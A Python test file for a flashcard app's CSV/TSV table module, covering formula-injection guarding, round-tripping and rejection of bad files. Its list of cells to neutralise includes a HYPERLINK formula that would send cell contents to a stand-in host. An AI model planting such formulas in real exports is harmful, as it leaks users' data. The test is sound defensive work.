"""Tables of cards: what a spreadsheet could run is guarded, and every text comes back."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.exchange.errors import BadFile
from quizapp.exchange.table import BOM, COLUMNS, Row, guarded, read_table, unguarded, write_table

RUN = ['=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2", "@x", "\t=1", "\r=1", "--dry-run=client", "'=1", "''@x"]
HARMLESS = ["", "'", "'tis", "kubectl get pods -A", "a=b", "5", "\n=1"]


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe_and_comes_back_without(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


@given(st.text(alphabet="'=+-@\t\r\nab ", max_size=6))
def test_every_text_comes_back_and_none_is_run(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_a_table_has_a_header_and_a_row_for_each_card(delimiter: str) -> None:
    rows = [Row(front='a "quoted", odd\tfront', back="two\nlines", id="x-1", tags=("one", "two"), section=("A", "B"))]
    text = write_table(rows, delimiter)
    header, row = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    assert tuple(header) == COLUMNS
    assert row == ["x-1", 'a "quoted", odd\tfront', "two\nlines", "", "A > B", "one two", "", ""]


def test_a_byte_order_mark_is_there_when_asked_for() -> None:
    assert write_table([], ",", bom=True) == BOM + write_table([], ",")
    assert not write_table([], ",").startswith(BOM)


def test_a_table_comes_back_as_it_was_written() -> None:
    rows = [
        Row("=1+1", "+49", "x-1", "Deck", ("A", "B"), ("one", "two::three"), "a.md:3-4", "- **A**: @b"),
        Row('"quoted", with\ttab\nand line', "'=kept", source="\t=1"),
    ]
    for delimiter in (",", "\t"):
        assert read_table(write_table(rows, delimiter, bom=True).encode(), delimiter) == rows


def test_columns_may_stand_in_any_order_and_others_are_left_alone() -> None:
    assert read_table(b"Mood,BACK, front \nbad,b,f\n\n", ",") == [Row("f", "b")]
    assert read_table("front\tback\nf\tb".encode("utf-16"), "\t") == [Row("f", "b")]


@pytest.mark.parametrize(
    ("raw", "word"),
    [
        (b"", "'front'"),
        (b"front,answer\na,b\n", "no column 'back'"),
        (b"front,back,front\na,b,c\n", "'front' twice"),
        (b"front,back\n", "no cards"),
        (b"front,back\na,b\nc,\n", "'back' at line 3"),
        (b'front,back\na,"b\n', "line"),
        ("front,back\na,ü\n".encode("latin-1"), "not UTF-8 (line 2)"),
        (b"front,back\n" + b"a,b\n" * 50_001, "more than 50000"),
        (b"front,back\na," + b"b" * 200_000, "field larger than"),
        (b"x" * (33 * 1024 * 1024), "33 MB"),
    ],
    ids=["nothing", "no-back", "twice", "none", "empty", "quote", "latin-1", "many", "long", "large"],
)
def test_what_is_no_table_of_cards_is_refused_with_the_reason(raw: bytes, word: str) -> None:
    with pytest.raises(BadFile, match=re.escape(word)):
        read_table(raw, ",")
